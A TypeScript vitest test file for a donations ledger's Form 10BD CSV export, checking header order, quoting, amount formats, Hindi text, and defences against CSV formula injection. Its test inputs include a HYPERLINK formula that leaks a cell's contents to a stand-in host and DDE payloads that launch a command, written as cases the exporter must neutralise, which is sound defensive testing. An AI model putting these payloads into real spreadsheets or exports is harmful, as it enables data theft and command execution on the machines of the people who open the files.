import papaparse from "papaparse";
import { describe, expect, it } from "vitest";
import { neutraliseFormulae, toCsv } from "../../../src/admin/crud/csvExport";
import { donationsResource } from "../../../src/admin/resources/donations";
import type { ExportDeclaration } from "../../../src/admin/resources/types";
import type { Donation } from "../../../src/lib/database.types";

// The donations ledger's export is the one Form 10BD file (the receipt requests' copy went, issue 36).
const form10bd = donationsResource.export as ExportDeclaration;

const request = (overrides: Partial<Donation>): Donation => ({
  id: crypto.randomUUID(),
  donor_name: "Asha Gupta",
  id_code: "pan",
  id_number: "ABCPG1234K",
  address: "12 Civil Lines, Prayagraj",
  email: "asha@example.org",
  phone: null,
  amount: 2500,
  gift_date: "2026-04-02",
  financial_year: "2026-27",
  mode: "upi",
  reference: "UPI-1",
  reference_key: "transfer:UPI-1",
  nature: "others",
  receipt_language: "en",
  receipt_request_id: null,
  receipt_number: "2026-27/0001",
  receipt_issued_at: "2026-04-03T10:00:00Z",
  receipt_emailed_at: null,
  receipt_email_claimed_at: null,
  form10be_stage: "pending",
  form10be_waiting: false,
  notes: null,
  created_at: "2026-04-02T10:00:00Z",
  updated_at: "2026-04-02T10:00:00Z",
  email_canonical: "asha@example.org",
  phone_canonical: null,
  id_number_canonical: "ABCPG1234K",
  ...overrides,
});

describe("CSV export in Form 10BD's columns", () => {
  it("starts with Part B's header, in its order", () => {
    const [header] = toCsv(form10bd, [request({})]).split("\r\n");
    expect(header).toBe(
      "Sl. No.,Pre Acknowledgement Number,ID Code,Unique Identification Number,Section Code," +
        "Unique Registration Number (URN),Date of Issuance of Unique Registration Number,Name of donor," +
        "Address of donor,Donation Type,Mode of receipt,Amount of donation (Indian rupees)",
    );
  });

  it("quotes a field with a comma or a quote, doubling the quote, and leaves plain fields bare", () => {
    const csv = toCsv(form10bd, [request({ donor_name: 'Ravi "Raju" Verma', address: "Flat 4, Civil Lines" })]);
    const line = csv.split("\r\n")[1];
    expect(line).toContain(',"Ravi ""Raju"" Verma","Flat 4, Civil Lines",');
    expect(line.startsWith("1,,Permanent Account Number,ABCPG1234K,Section 80G,")).toBe(true);
  });

  it("writes amounts as plain numbers with two decimals, never with Indian grouping", () => {
    const csv = toCsv(form10bd, [request({ amount: 100000 }), request({ amount: 2500.5, mode: "cash" })]);
    const rows = papaparse.parse<string[]>(csv.trim()).data;
    expect(rows[1].at(-1)).toBe("100000.00");
    expect(rows[2].at(-1)).toBe("2500.50");
    expect(rows[2].at(-2)).toBe("Cash");
    expect(rows[1].at(-2)).toBe("Electronic modes including account payee cheque/draft");
    expect(rows.map((row) => row[0])).toEqual(["Sl. No.", "1", "2"]);
  });

  it("keeps Hindi names whole and a line break inside quotes, and round-trips every field", () => {
    const donor = request({ donor_name: "आशा गुप्ता", address: "12 सिविल लाइन्स\nप्रयागराज" });
    const rows = papaparse.parse<string[]>(toCsv(form10bd, [donor]).trim()).data;
    expect(rows).toHaveLength(2);
    expect(rows[1][7]).toBe("आशा गुप्ता");
    expect(rows[1][8]).toBe("12 सिविल लाइन्स\nप्रयागराज");
  });

  it("never lets a visitor's text run as a spreadsheet formula", () => {
    const rows = papaparse.parse<string[]>(toCsv(form10bd, [request({ donor_name: "=HYPERLINK(1)" })]).trim()).data;
    expect(rows[1][7]).toBe("'=HYPERLINK(1)");
  });

  // OWASP, "CSV Injection": a cell that begins with = + - @ a tab or a carriage return is a formula
  // to a spreadsheet. An address keeps its line breaks, so every line of it is checked.
  const cellsOf = (donor: Partial<Donation>) =>
    papaparse.parse<string[]>(toCsv(form10bd, [request(donor)]).trim()).data[1];

  it.each([
    ["=", '=HYPERLINK("https://x?d="&D2,"Open")'],
    ["+", "+91 98765 43210"],
    ["-", "-2+3"],
    ["@", "@SUM(1+1)"],
    ["a tab", "\t=cmd|' /C calc'!A0"],
    ["a carriage return", "\rcmd|' /C calc'!A0"],
  ])("prefixes ' to a cell that begins with %s, and keeps the rest of it", (_what, text) => {
    expect(cellsOf({ donor_name: text })[7]).toBe(`'${text}`);
  });

  it.each([
    ["=", "=cmd|' /C calc'!A0"],
    ["+", "+SUM(1+1)"],
    ["-", "-2+3"],
    ["@", "@SUM(1+1)"],
    ["a tab", "\t=1+1"],
    ["a carriage return", "\r1+1"],
  ])("prefixes ' to a later line of an address that begins with %s", (_what, line) => {
    const address = `12 Civil Lines\n${line}\nPrayagraj`;
    expect(cellsOf({ address })[8]).toBe(`12 Civil Lines\n'${line}\nPrayagraj`);
  });

  it("neutralises the first line and the later ones of one address, whatever the line break", () => {
    const address = '=HYPERLINK("https://x?d="&D2,"Open")\r\n-2+3\r@SUM(1+1)\n12 Civil Lines';
    expect(cellsOf({ address })[8]).toBe(
      '\'=HYPERLINK("https://x?d="&D2,"Open")\r\n\'-2+3\r\'@SUM(1+1)\n12 Civil Lines',
    );
    expect(neutraliseFormulae("\r=1")).toBe("'\r'=1");
  });

  it("leaves text without a formula character at a line's start as it was, unquoted", () => {
    const csv = toCsv(form10bd, [request({ donor_name: "Asha-Gupta", address: "12 Civil Lines\nNear = sign" })]);
    expect(csv).toContain(",Asha-Gupta,");
    expect(cellsOf({ address: "12 Civil Lines\nNear = sign" })[8]).toBe("12 Civil Lines\nNear = sign");
    expect(neutraliseFormulae("2500.50")).toBe("2500.50");
  });

  it("quotes a neutralised cell, as OWASP advises", () => {
    const line = toCsv(form10bd, [request({ donor_name: "@SUM(1+1)" })]).split("\r\n")[1];
    expect(line).toContain(`,"'@SUM(1+1)",`);
  });
});
